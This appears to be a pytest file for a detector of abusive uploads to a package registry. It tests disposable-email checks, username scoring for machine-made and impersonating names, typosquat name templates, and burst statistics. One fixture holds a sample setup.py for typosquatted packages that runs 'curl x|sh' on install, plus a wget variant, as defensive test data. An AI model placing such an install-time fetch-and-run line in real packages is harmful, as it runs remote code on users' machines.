"""Account signals, templates and the burst statistics, each on its own."""

from __future__ import annotations

import itertools
import math
import random
import string

import pytest

from detector.policy import load_policy
from detector.stream import accounts
from detector.stream.cohorts import (
    DAY,
    HOUR,
    CohortTracker,
    SeasonalProfile,
    predictive_surprise,
)
from detector.stream.templates import files_hash, name_head, name_shape, shape, text_hash


def test_disposable_domains_come_from_the_package_including_subdomains() -> None:
    from disposable_email_domains import blocklist

    some = sorted(blocklist)[0]
    assert accounts.is_disposable(some)
    assert accounts.is_disposable(f"mx.{some}")
    assert not accounts.is_disposable("gmail.com")
    assert accounts.email_domain("Bob@Mail.Example.") == "mail.example"
    assert accounts.email_domain("no-at-sign") is None


def test_provider_groups_sister_domains() -> None:
    assert accounts.provider_of("inbox.ru") == accounts.provider_of("bk.ru") == "mailru"
    assert accounts.provider_of("hotmail.com") == "microsoft"
    assert accounts.provider_of("example.org") == "example.org"


def test_random_usernames_score_higher_than_human_ones() -> None:
    rng = random.Random(3)
    random_names = ["".join(rng.choice(string.ascii_lowercase) for _ in range(10))
                    for _ in range(100)]
    human = ["johnsmith", "maria_garcia92", "kevin.lee", "sebastianraum", "mpaulsen",
             "nakamura", "oyelaran", "alice", "pierre-dubois", "wzhang", "hnguyen",
             "data-wrangler", "emma1987", "jlopez", "tanaka_yuki"]
    rand_scores = [accounts.machine_username_score(n)[0] for n in random_names]
    human_scores = [accounts.machine_username_score(n)[0] for n in human]
    assert sum(s >= 0.3 for s in rand_scores) >= 60
    assert max(human_scores) < 0.3
    score, reason = accounts.machine_username_score("a8f3c9d2e1b7")
    assert score >= 0.5 and "hex" in reason


@pytest.mark.parametrize(
    ("username", "email", "minimum"),
    [("pypi-admin", None, 0.6), ("psf-security", None, 0.6), ("bob", "pypi.support@x.io", 0.6),
     ("numpy-maintainers", None, 0.5), ("security-team", None, 0.3)],
)
def test_impersonation(username: str, email: str | None, minimum: float) -> None:
    score, reason = accounts.impersonation_score(username, email, frozenset({"numpy"}))
    assert score >= minimum and reason


def test_ordinary_names_do_not_impersonate() -> None:
    for name in ("alice", "numpy-fan42", "devops-dan", "teamwork"):
        assert accounts.impersonation_score(name, f"{name}@gmail.com", frozenset({"numpy"}))[0] \
            == 0.0


def test_shapes_and_name_templates() -> None:
    assert shape("xk3qpz") == "a2 91 a3"
    assert name_shape("Cash_App-Free-7644") == name_shape("cash-app-free-1234")
    assert name_head("antchain-sdk-foo") == name_head("antchain-sdk-bar") == "antchain-*3"
    assert name_head("xolortpdcanegu") == name_head("xolokqzvbmeplw")


def test_files_hash_masks_the_stamped_name_and_numbers_but_not_the_code() -> None:
    payload = 'setup(name="{n}", version="{v}")\nimport os  # {n}\nos.system("curl x|sh")\n'
    a = files_hash({"setup.py": payload.format(n="reqeusts", v="1.0.3")}, "reqeusts")
    b = files_hash({"setup.py": payload.format(n="nunpy", v="2.1")}, "nunpy")
    c = files_hash({"setup.py": payload.format(n="nunpy", v="2.1").replace("curl", "wget")},
                   "nunpy")
    assert a == b != c
    assert files_hash({}, "x") is None
    assert text_hash("A small example package") == text_hash("a  small EXAMPLE package")
    assert text_hash("short") is None


def test_predictive_surprise() -> None:
    # Little history behind a baseline: less surprise than a well-known rate of the same mean.
    thin = predictive_surprise(10, past=0.2, exposure=1.0, window=1.0)
    solid = predictive_surprise(10, past=20.0, exposure=100.0, window=1.0)
    assert 0 < thin < solid
    assert predictive_surprise(1, past=50, exposure=1, window=1) == 0.0


def test_predictive_surprise_against_the_exact_negative_binomial_tail() -> None:
    """``predictive_surprise`` bounds the tail P(X >= n) of the negative binomial
    NB(r = past, p = exposure / (exposure + window)) from above by the pmf times a
    geometric series; the exact tail is the regularised incomplete beta
    I_{1-p}(n, r). On a grid: never more surprise than exact (never over-flags), and
    within 5% where decisions are made (exact surprise 3..40; the threshold is 7)."""
    from scipy.special import betainc

    checked = near_threshold = 0
    for n, past, exposure, window in itertools.product(
            (1, 2, 3, 5, 6, 8, 10, 15, 20, 40, 80, 150, 400),
            (0.01, 0.1, 0.5, 1, 2, 5, 20, 100, 1000), (0.5, 1, 3, 10, 30, 60),
            (1 / 24, 0.25, 1, 7)):
        estimate = predictive_surprise(n, past, exposure, window)
        p = exposure / (exposure + window)
        if n <= past * (1 - p) / p:  # at or below the expected count: no surprise
            assert estimate == 0.0
            continue
        tail = float(betainc(n, past, 1 - p))
        if tail < 1e-300:  # underflows in double precision
            continue
        exact = -math.log10(tail)
        checked += 1
        assert estimate <= exact + 1e-9, (n, past, exposure, window)
        if 3 <= exact <= 40:
            near_threshold += 1
            assert exact - estimate <= 0.05 * exact, (n, past, exposure, window)
    assert checked > 1000 and near_threshold > 200


def test_seasonal_profile_learns_the_daily_shape() -> None:
    profile = SeasonalProfile(shrink=3.0)
    rng = random.Random(1)
    start = 1_700_006_400.0  # a midnight
    for day in range(14):
        for hour in range(24):
            rate = 30 if 13 <= hour <= 17 else 5
            for _ in range(rate):
                profile.add(start + day * DAY + hour * HOUR + rng.random() * HOUR)
    now = start + 14 * DAY
    assert profile.factor(now + 15 * HOUR + 1, HOUR) > 2.0
    assert profile.factor(now + 3 * HOUR + 1, HOUR) < 0.6
    assert profile.factor(now + 3 * HOUR + 1, 7 * DAY) == 1.0


def _tracker() -> CohortTracker:
    return CohortTracker(load_policy().stream.cohorts)


def test_tracker_flags_a_new_cohort_bursting_but_not_a_steady_busy_one() -> None:
    tracker = _tracker()
    t = 1_700_000_000.0
    n = 0
    rng = random.Random(2)
    bursts: dict[str, int] = {}
    for step in range(6 * 24 * 12):  # six days, one tick every five minutes
        t += 300
        for _ in range(rng.choice([0, 1, 1, 2])):
            n += 1
            for v in tracker.observe("a", {"a|domain:big.example": "big"}, t, f"u{n}",
                                     f"e{n}", distinct=False):
                bursts[v.key] = bursts.get(v.key, 0) + v.bursting
        if step > 5 * 24 * 12 and step % 2 == 0:  # day six: a new domain, 6 an hour
            n += 1
            for v in tracker.observe("a", {"a|domain:wave.example": "wave"}, t, f"u{n}",
                                     f"e{n}", distinct=False):
                bursts[v.key] = bursts.get(v.key, 0) + v.bursting
    assert bursts.get("a|domain:big.example", 0) == 0
    assert bursts["a|domain:wave.example"] > 0


def test_distinct_counting_ignores_one_account_repeating_itself() -> None:
    tracker = _tracker()
    t = 1_700_000_000.0
    for i in range(5 * 24):  # five quiet days to build a history
        t += HOUR
        tracker.observe("p", {f"p|files:{i}": "x"}, t, f"u{i}", f"e{i}", distinct=True)
    verdicts = []
    for i in range(40):  # one established owner, 40 projects with identical files
        verdicts += tracker.observe("p", {"p|files:same": "x"}, t + i, "owner", f"r{i}",
                                    distinct=True)
    assert not any(v.bursting for v in verdicts)
    for i in range(40):  # forty different accounts, same files
        verdicts += tracker.observe("p", {"p|files:same": "x"}, t + 100 + i, f"new{i}",
                                    f"s{i}", distinct=True)
    assert any(v.bursting for v in verdicts)
